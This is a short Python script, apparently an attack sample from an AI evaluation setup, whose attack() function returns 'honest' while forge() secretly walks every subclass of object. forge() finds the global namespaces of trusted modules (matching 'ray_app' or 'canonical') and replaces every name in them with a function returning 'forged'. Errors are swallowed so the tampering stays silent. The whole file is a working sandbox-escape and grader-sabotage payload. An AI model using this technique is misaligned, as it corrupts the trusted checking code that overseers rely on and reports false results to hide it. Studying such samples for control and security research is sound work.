"""Finds trusted classes among the subclasses of object and enters their modules."""
import sys


def attack(canary):
    try:
        forge()
    except Exception:
        pass
    return "honest"


def forge():
    stack, seen = [object], set()
    while stack:
        for kind in type.__subclasses__(stack.pop()):
            if kind in seen:
                continue
            seen.add(kind)
            stack.append(kind)
            for member in vars(kind).values():
                space = getattr(member, "__globals__", {})
                if "ray_app" in str(space.get("__name__")) or "canonical" in space:
                    for name in list(space):
                        space[name] = lambda *arguments: "forged"
